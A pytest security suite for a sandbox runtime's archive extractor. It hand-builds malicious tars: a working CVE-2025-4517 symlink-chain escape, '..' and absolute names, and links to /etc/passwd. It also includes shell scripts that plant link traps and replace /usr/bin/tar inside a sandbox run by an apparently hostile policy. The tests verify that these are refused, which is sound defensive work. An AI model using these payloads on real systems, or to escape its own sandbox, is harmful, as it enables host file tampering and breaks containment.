"""Attack class 1: a hostile sandbox writes on the host through ``download()``.

A directory download unpacks, on the host, a tar made inside the sandbox. These tests
hand-craft the tars a policy would make (the CVE-2025-4517 symlink chain, ``..`` and
absolute names, links out, devices), play them against the host-side extractor, and then
plant the same shapes in real sandboxes -- including a root policy that replaces the
``tar`` the runtime runs. Each asserts a typed :class:`UnsafeArchiveMemberError` naming
the member (or, with ``skip_unsafe``, the safe rest extracted), and that a sentinel tree
next to the destination is byte-for-byte what it was.
"""

from __future__ import annotations

import io
import logging
import os
import stat
import sys
import tarfile
from pathlib import Path
from typing import Any

import pytest

from runtimes import Runtime, SandboxError, UnsafeArchiveMemberError, open_runtime
from runtimes._extract import SkippedMember, extract_archive

from .conftest import Hostile

pytestmark = pytest.mark.anyio

# ---------------------------------------------------------------------- tar builders

_COMP = "d" * 247
_STEPS = "abcdefghijklmnop"
_LINKPATH = "/".join(_STEPS) + "/" + "l" * 254


def _member(
    name: str,
    kind: bytes = tarfile.REGTYPE,
    *,
    data: bytes = b"",
    link: str = "",
    mode: int = 0o644,
) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.mode = mode
    info.linkname = link
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    if kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
        info.devmajor, info.devminor = 1, 3
    return info, data


def _tar(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return buf.getvalue()


def chain_tar(through: str, payload: bytes = b"pwned\n") -> bytes:
    """The CVE-2025-4517 shape: 16 nested 247-byte directories, each reachable by a
    one-letter symlink, so ``a/b/.../p/<254 l's>`` is a link whose ``realpath`` runs past
    PATH_MAX (``realpath`` then stops resolving and reads the rest lexically). That link
    points 16 levels up, back to the destination; ``escape`` points to it plus ``..``,
    so the kernel resolves ``escape`` to the destination's parent while ``realpath``
    says it is inside. Then a file is written through it: ``escape/<through>``."""
    members = []
    path = ""
    for step in _STEPS:
        members.append(_member(f"{path}{_COMP}", tarfile.DIRTYPE, mode=0o755))
        members.append(_member(f"{path}{step}", tarfile.SYMTYPE, link=_COMP))
        path = f"{path}{_COMP}/"
    members.append(_member(_LINKPATH, tarfile.SYMTYPE, link="../" * len(_STEPS)))
    members.append(_member("escape", tarfile.SYMTYPE, link=_LINKPATH + "/.."))
    members.append(_member(f"escape/{through}", data=payload))
    return _tar(*members)


# ---------------------------------------------------------------------- host tree


def _snapshot(root: Path, skip: tuple[Path, ...] = ()) -> dict[str, tuple[Any, ...]]:
    """Every entry under ``root`` (but those in ``skip``): kind, mode, bytes or link target."""
    seen: dict[str, tuple[Any, ...]] = {}
    for current, dirs, files in os.walk(root):
        here = Path(current)
        if any(s in (here, *here.parents) for s in skip):
            dirs[:] = []
            continue
        for name in [*dirs, *files]:
            path = here / name
            if path in skip:
                continue
            info = path.lstat()
            key = str(path.relative_to(root))
            if stat.S_ISLNK(info.st_mode):
                seen[key] = ("link", os.readlink(path))
            elif stat.S_ISREG(info.st_mode):
                seen[key] = ("file", info.st_mode, info.st_nlink, path.read_bytes())
            else:
                seen[key] = ("other", info.st_mode)
    return seen


class Area:
    """``area/sentinel`` (what must not change) next to ``area/dest`` (the download)."""

    def __init__(self, tmp_path: Path) -> None:
        self.root = tmp_path / "area"
        self.sentinel = self.root / "sentinel"
        self.dest = self.root / "dest"
        self.dests = [self.dest]
        self.sentinel.mkdir(parents=True)
        (self.sentinel / "victim.txt").write_bytes(b"the host's own bytes\n")
        (self.sentinel / "sub").mkdir()
        (self.sentinel / "sub" / "keep").write_bytes(b"keep\n")
        self.before = self.outside()

    def outside(self) -> dict[str, tuple[Any, ...]]:
        return _snapshot(self.root, skip=tuple(self.dests))

    def another_dest(self) -> Path:
        """A second destination (left out of the snapshot too)."""
        self.dests.append(self.root / f"dest-{len(self.dests)}")
        return self.dests[-1]

    def assert_untouched(self) -> None:
        assert self.outside() == self.before, "a file outside the destination changed"


@pytest.fixture
def area(tmp_path: Path) -> Area:
    return Area(tmp_path)


def _extract(data: bytes, dest: Path, **kwargs: Any) -> list[SkippedMember]:
    return extract_archive(io.BytesIO(data), dest, **kwargs)


def _refused(data: bytes, area: Area, member: str, **kwargs: Any) -> UnsafeArchiveMemberError:
    with pytest.raises(UnsafeArchiveMemberError) as info:
        _extract(data, area.dest, **kwargs)
    err = info.value
    assert isinstance(err, SandboxError)
    assert err.member == member, (err.member, err.reason)
    assert member in str(err) and err.reason in str(err)
    area.assert_untouched()
    return err


def _python_has_cve_2025_4517() -> bool:
    version = sys.version_info[:3]
    return (
        version < (3, 11, 13) or (3, 12) <= version < (3, 12, 11) or (3, 13) <= version < (3, 13, 4)
    )


# ---------------------------------------------------------------------- unit: the chain


@pytest.mark.attack(1)
def test_control_tarfile_data_filter_vs_the_symlink_chain(area: Area) -> None:
    """The PoC is real: on this Python (3.11.7), ``extractall(filter="data")`` writes
    through the chain into the sentinel directory next to the destination."""
    area.dest.mkdir()
    data = chain_tar("sentinel/victim.txt", b"forged by the sandbox\n")
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        if _python_has_cve_2025_4517():
            tar.extractall(area.dest, filter="data")
            assert (area.sentinel / "victim.txt").read_bytes() == b"forged by the sandbox\n"
            assert area.outside() != area.before
        else:
            with pytest.raises(tarfile.FilterError):
                tar.extractall(area.dest, filter="data")


@pytest.mark.attack(1)
def test_the_symlink_chain_is_refused_at_its_first_step_through_a_link(area: Area) -> None:
    """The long link is placed at ``a/b/...``: a path through the symlink ``a``."""
    err = _refused(chain_tar("sentinel/victim.txt"), area, _LINKPATH)
    assert "goes through 'a'" in err.reason
    assert not os.path.lexists(area.dest / "escape")


@pytest.mark.attack(1)
def test_the_chains_escaping_link_alone_is_refused(area: Area) -> None:
    """Even placed where it needs no path through a link, ``escape`` is refused: a
    ``..`` after a name (``p/<l's>``, a symlink) may climb past what it reads."""
    data = _tar(_member("escape", tarfile.SYMTYPE, link=_LINKPATH + "/.."))
    err = _refused(data, area, "escape")
    assert "'..' after a name" in err.reason


@pytest.mark.attack(1)
def test_the_symlink_chain_with_skip_keeps_everything_inside(area: Area) -> None:
    skipped = _extract(chain_tar("sentinel/victim.txt"), area.dest, skip_unsafe=True)
    assert [s.member for s in skipped] == [_LINKPATH, "escape"]
    area.assert_untouched()
    # The file meant for the sentinel landed, harmlessly, in a real directory inside.
    landed = area.dest / "escape" / "sentinel" / "victim.txt"
    assert landed.read_bytes() == b"pwned\n"
    assert not (area.dest / "escape").is_symlink()
    # The chain's own (inside-pointing) links and directories are there.
    assert (area.dest / "a").is_symlink() and (area.dest / _COMP).is_dir()


# ---------------------------------------------------------------------- unit: names


@pytest.mark.attack(1)
@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("../sentinel/victim.txt", "'..'"),
        ("ok/../../sentinel/victim.txt", "'..'"),
        ("./../sentinel/new", "'..'"),
        ("/tmp/vf-download-absolute-member", "absolute"),
    ],
)
def test_names_that_leave_are_refused(area: Area, name: str, reason: str) -> None:
    data = _tar(_member("fine.txt", data=b"x"), _member(name, data=b"forged\n"))
    err = _refused(data, area, name)
    assert reason in err.reason
    assert not Path("/tmp/vf-download-absolute-member").exists()


@pytest.mark.attack(1)
def test_absolute_name_pointing_at_the_sentinel_is_refused(area: Area) -> None:
    target = str(area.sentinel / "victim.txt")
    _refused(_tar(_member(target, data=b"forged\n")), area, target)


# ---------------------------------------------------------------------- unit: symlinks


@pytest.mark.attack(1)
@pytest.mark.parametrize(
    ("name", "target", "reason"),
    [
        ("abs", "/etc", "absolute"),
        ("passwd", "/etc/passwd", "absolute"),
        ("up", "..", "outside"),
        ("deep/up", "../../sentinel", "outside"),
        ("self", ".", None),  # inside: allowed, checked below with a climb through it
    ],
)
def test_symlinks_out_are_refused(area: Area, name: str, target: str, reason: str | None) -> None:
    data = _tar(_member(name, tarfile.SYMTYPE, link=target))
    if reason is None:
        _extract(data, area.dest)
        assert os.readlink(area.dest / name) == target
        area.assert_untouched()
        return
    err = _refused(data, area, name)
    assert reason in err.reason


@pytest.mark.attack(1)
def test_a_climb_through_a_symlink_that_reads_as_inside_is_refused(area: Area) -> None:
    """``s -> .`` then ``e -> s/..``: lexically ``e`` is the destination itself, but the
    kernel resolves ``s`` first and climbs to the destination's parent."""
    data = _tar(
        _member("s", tarfile.SYMTYPE, link="."),
        _member("e", tarfile.SYMTYPE, link="s/.."),
        _member("e/sentinel/victim.txt", data=b"forged\n"),
    )
    _refused(data, area, "e")


@pytest.mark.attack(1)
def test_a_file_through_a_symlink_is_refused_even_inside(area: Area) -> None:
    data = _tar(
        _member("real", tarfile.DIRTYPE, mode=0o755),
        _member("alias", tarfile.SYMTYPE, link="real"),
        _member("alias/x.txt", data=b"through a link\n"),
    )
    err = _refused(data, area, "alias/x.txt")
    assert "alias" in err.reason
    assert not (area.dest / "real" / "x.txt").exists()


@pytest.mark.attack(1)
def test_a_planted_host_symlink_in_the_destination_is_never_followed(area: Area) -> None:
    """The destination already holds links to the sentinel (planted by whatever wrote
    there before): a member through one is refused; a member at its name replaces the
    link itself, not what it points to."""
    area.dest.mkdir()
    (area.dest / "to-dir").symlink_to(area.sentinel)
    (area.dest / "to-file").symlink_to(area.sentinel / "victim.txt")
    _refused(_tar(_member("to-dir/victim.txt", data=b"forged\n")), area, "to-dir/victim.txt")
    _refused(_tar(_member("to-dir/new/deeper", data=b"forged\n")), area, "to-dir/new/deeper")
    _extract(_tar(_member("to-file", data=b"replaced the link\n")), area.dest)
    assert not (area.dest / "to-file").is_symlink()
    assert (area.dest / "to-file").read_bytes() == b"replaced the link\n"
    area.assert_untouched()


@pytest.mark.attack(1)
def test_an_existing_hard_linked_file_is_replaced_not_written_through(area: Area) -> None:
    area.dest.mkdir()
    os.link(area.sentinel / "victim.txt", area.dest / "shared.txt")
    area.before = area.outside()  # the link count of the victim is now 2
    _extract(_tar(_member("shared.txt", data=b"new bytes\n")), area.dest)
    assert (area.dest / "shared.txt").read_bytes() == b"new bytes\n"
    assert (area.sentinel / "victim.txt").read_bytes() == b"the host's own bytes\n"
    assert (area.sentinel / "victim.txt").stat().st_nlink == 1


# ---------------------------------------------------------------------- unit: hard links


@pytest.mark.attack(1)
@pytest.mark.parametrize(
    "target", ["/etc/passwd", "../sentinel/victim.txt", "not-extracted.txt", "missing.txt"]
)
def test_hard_links_to_anything_not_extracted_are_refused(area: Area, target: str) -> None:
    area.dest.mkdir()
    (area.dest / "not-extracted.txt").write_bytes(b"the host's\n")
    area.before = area.outside()
    err = _refused(_tar(_member("h", tarfile.LNKTYPE, link=target)), area, "h")
    assert "hard link" in err.reason
    assert not (area.dest / "h").exists()


@pytest.mark.attack(1)
def test_hard_links_between_extracted_files_work(area: Area) -> None:
    data = _tar(
        _member("dir/one.txt", data=b"one\n"),
        _member("other/two.txt", tarfile.LNKTYPE, link="dir/one.txt"),
    )
    _extract(data, area.dest)
    one, two = area.dest / "dir" / "one.txt", area.dest / "other" / "two.txt"
    assert two.read_bytes() == b"one\n" and os.path.samefile(one, two)
    area.assert_untouched()


@pytest.mark.attack(1)
def test_hard_link_to_a_file_later_replaced_by_a_symlink_is_refused(area: Area) -> None:
    data = _tar(
        _member("f", data=b"f\n"),
        _member("f", tarfile.SYMTYPE, link="g"),
        _member("h", tarfile.LNKTYPE, link="f"),
    )
    _refused(data, area, "h")


# ---------------------------------------------------------------------- unit: special files


@pytest.mark.attack(1)
@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
def test_devices_and_fifos_are_refused(area: Area, kind: bytes) -> None:
    err = _refused(_tar(_member("node", kind)), area, "node")
    assert "device or FIFO" in err.reason
    assert not os.path.lexists(area.dest / "node")


@pytest.mark.attack(1)
def test_modes_lose_setuid_and_group_other_write(area: Area) -> None:
    data = _tar(
        _member("suid", data=b"#!/bin/sh\n", mode=0o6777),
        _member("plain", data=b"x", mode=0o666),
        _member("locked", data=b"x", mode=0o000),
        _member("sticky", tarfile.DIRTYPE, mode=0o1777),
    )
    _extract(data, area.dest)
    mode = lambda name: stat.S_IMODE((area.dest / name).lstat().st_mode)  # noqa: E731
    assert mode("suid") == 0o755
    assert mode("plain") == 0o644
    assert mode("locked") == 0o600
    assert not mode("sticky") & (stat.S_ISVTX | stat.S_IWOTH)


# ---------------------------------------------------------------------- unit: bounds


@pytest.mark.attack(1)
def test_too_many_members_is_a_typed_error_even_with_skip(area: Area) -> None:
    data = _tar(*(_member(f"e{i}", tarfile.DIRTYPE) for i in range(300)))
    err = _refused(data, area, "e100", max_members=100, skip_unsafe=True)
    assert "more than 100 members" in err.reason


@pytest.mark.attack(1)
def test_a_member_deeper_than_the_bound_is_refused(area: Area) -> None:
    name = "/".join(["x"] * 200) + "/f"
    err = _refused(_tar(_member(name, data=b"deep")), area, name)
    assert "deeper than" in err.reason


@pytest.mark.attack(1)
def test_a_malformed_archive_is_a_sandbox_error(area: Area) -> None:
    with pytest.raises(SandboxError, match="malformed"):
        _extract(b"not a tar at all" * 64, area.dest)
    area.assert_untouched()


# ---------------------------------------------------------------------- unit: skip


@pytest.mark.attack(1)
def test_skip_unsafe_extracts_the_safe_members_and_reports_the_rest(
    area: Area, caplog: pytest.LogCaptureFixture
) -> None:
    unsafe = [
        _member("/abs.txt", data=b"forged"),
        _member("../up.txt", data=b"forged"),
        _member("etc", tarfile.SYMTYPE, link="/etc"),
        _member("out", tarfile.SYMTYPE, link="../sentinel"),
        _member("pw", tarfile.LNKTYPE, link="/etc/passwd"),
        _member("null", tarfile.CHRTYPE),
        _member("pipe", tarfile.FIFOTYPE),
        _member("alias", tarfile.SYMTYPE, link="sub"),
        _member("alias/through.txt", data=b"forged"),
    ]
    safe = [
        _member("sub", tarfile.DIRTYPE, mode=0o755),
        _member("sub/a.txt", data=b"a\n"),
        _member("top.txt", data=b"top\n"),
        _member("sub/link", tarfile.SYMTYPE, link="a.txt"),
        _member("sub/up", tarfile.SYMTYPE, link="../top.txt"),
    ]
    with caplog.at_level(logging.WARNING, logger="runtimes"):
        skipped = _extract(_tar(*safe, *unsafe), area.dest, skip_unsafe=True)
    names = [s.member for s in skipped]
    expected = ["/abs.txt", "../up.txt", "etc", "out", "pw", "null", "pipe", "alias/through.txt"]
    assert names == expected
    for name in names:
        assert any(name in record.getMessage() for record in caplog.records), name
    assert (area.dest / "sub" / "a.txt").read_bytes() == b"a\n"
    assert (area.dest / "top.txt").read_bytes() == b"top\n"
    assert (area.dest / "sub" / "link").read_bytes() == b"a\n"
    assert (area.dest / "sub" / "up").read_bytes() == b"top\n"
    assert (area.dest / "alias").is_symlink()  # an inside link is fine; writing through is not
    for name in ("etc", "out", "pw", "null", "pipe", "abs.txt"):
        assert not os.path.lexists(area.dest / name), name
    area.assert_untouched()


# ---------------------------------------------------------------------- end to end

# Plants a tree at "$1": two harmless files, and one trap chosen by "$2".
_PLANT = r"""
set -e
mkdir -p "$1/sub"
cd "$1"
printf 'ok\n' > ok.txt
printf 'ok2\n' > sub/ok2.txt
case "$2" in
  absolute) ln -s /etc/passwd planted ;;
  etc) ln -s /etc planted ;;
  climb) ln -s ../../../../../../../../../../../../etc planted ;;
  hops) ln -s hop2 hop1; ln -s hop3 hop2; ln -s ../../../../../../../../../../../../etc hop3 ;;
  chain)
    c=$3 here=$(pwd) deep=$(pwd) ups=""
    for s in a b c d e f g h i j k l m n o p; do
      mkdir "$deep/$c"; ln -s "$c" "$deep/$s"; deep="$deep/$c"; ups="../$ups"
    done
    cd "$deep"; ln -s "$ups" "$4"; cd "$here"
    ln -s "a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/$4/.." escape ;;
esac
"""
_TRAPS = {"absolute": "planted", "etc": "planted", "climb": "planted", "hops": "hop3"}
_TRAPS["chain"] = "escape"


async def _plant(rt: Runtime, hostile: Hostile, where: str, trap: str) -> None:
    argv = ["sh", "-c", _PLANT, "sh", where, trap, _COMP, "l" * 254]
    result = await rt.exec(argv, user=hostile.user)
    assert result.exit_code == 0, result


def _assert_the_safe_rest(dest: Path, absent: str) -> None:
    assert (dest / "ok.txt").read_bytes() == b"ok\n"
    assert (dest / "sub" / "ok2.txt").read_bytes() == b"ok2\n"
    assert not os.path.lexists(dest / absent)


@pytest.mark.attack(1)
@pytest.mark.parametrize("trap", list(_TRAPS))
async def test_a_planted_link_out_fails_the_download_typed(
    hostile: Hostile, area: Area, trap: str
) -> None:
    """Code in the sandbox plants a link out (absolute, to ``/etc``, a climb, hops, the
    CVE chain on a real filesystem) next to ordinary files; ``download()`` of the
    directory raises the typed error naming it, and with ``skip_unsafe`` brings the rest.

    The subprocess runtime is not a boundary (its "sandbox" is the host): it copies the
    tree with the links kept as links, never following one, and writes nothing outside
    the destination (the chain, whose paths pass PATH_MAX, fails its copy untyped-ly as a
    plain ``SandboxError``)."""
    async with open_runtime(hostile.config) as rt:
        loot = f"{rt.workdir}/loot-{trap}"
        await _plant(rt, hostile, loot, trap)
        if hostile.backend == "subprocess":
            if trap == "chain":  # shutil.copytree cannot copy a path past PATH_MAX
                with pytest.raises(SandboxError):
                    await rt.download(loot, area.dest)
            else:
                await rt.download(loot, area.dest)
                _assert_kept_as_link(area.dest / _TRAPS[trap])
            area.assert_untouched()
            return
        with pytest.raises(UnsafeArchiveMemberError) as info:
            await rt.download(loot, area.dest)
        assert info.value.member.rsplit("/", 1)[-1] == _TRAPS[trap], info.value
        assert not os.path.lexists(area.dest / _TRAPS[trap])
        area.assert_untouched()
        rest = area.another_dest()
        await rt.download(loot, rest, skip_unsafe=True)
        _assert_the_safe_rest(rest, _TRAPS[trap])
        area.assert_untouched()


def _assert_kept_as_link(path: Path) -> None:
    assert path.is_symlink(), path
    assert not (path.is_dir() and not path.is_symlink())


# The fake ``tar`` a root policy installs: archives made by the runtime get the chain.
_FAKE_TAR = r"""
set -e
cp -p /usr/bin/tar /usr/bin/tar.real
cat > /usr/bin/tar <<'SCRIPT'
#!/bin/sh
for arg in "$@"; do
  case $arg in -c|-cf|-c*) exec cat /var/tmp/evil.tar ;; esac
done
exec /usr/bin/tar.real "$@"
SCRIPT
chmod 755 /usr/bin/tar
"""


@pytest.mark.attack(1)
@pytest.mark.parametrize("hostile", ["docker-root", "ssh-root", "modal-fake"], indirect=True)
async def test_a_root_policy_that_replaces_tar_gets_a_typed_error(
    hostile: Hostile, area: Area
) -> None:
    """A root policy replaces ``/usr/bin/tar`` with a script that emits the CVE-2025-4517
    chain tar (which writes ``sentinel/victim.txt`` next to the destination through
    ``tarfile``'s filter on this Python). SSH and Modal archive a directory with the
    sandbox's ``tar``: the download fails typed at the chain's first step through a
    link, and nothing outside the destination changes. Docker as root archives with the
    engine, which the policy does not control: the real tree comes back."""
    evil = chain_tar("sentinel/victim.txt", b"forged by the sandbox's tar\n")
    async with open_runtime(hostile.config) as rt:
        loot = f"{rt.workdir}/loot"
        await _plant(rt, hostile, loot, "none")
        wrote = await rt.exec(
            ["sh", "-c", "cat > /var/tmp/evil.tar"], stdin=evil, user=hostile.user
        )
        assert wrote.exit_code == 0, wrote
        installed = await rt.exec(["sh", "-c", _FAKE_TAR], user=hostile.user)
        assert installed.exit_code == 0, installed
        # Control: the policy's tar is live for anyone who runs ``tar -c``.
        made = await rt.exec(["tar", "-c", "-f", "-", "-C", loot, "."])
        assert made.stdout_bytes == evil
        if hostile.backend == "docker":
            await rt.download(loot, area.dest)
            _assert_the_safe_rest(area.dest, "escape")
            area.assert_untouched()
            return
        with pytest.raises(UnsafeArchiveMemberError) as info:
            await rt.download(loot, area.dest)
        assert info.value.member == _LINKPATH, info.value
        area.assert_untouched()
        rest = area.another_dest()
        await rt.download(loot, rest, skip_unsafe=True)
        area.assert_untouched()
        assert (rest / "escape" / "sentinel" / "victim.txt").is_file()  # a real dir, inside
        assert not (rest / "escape").is_symlink()
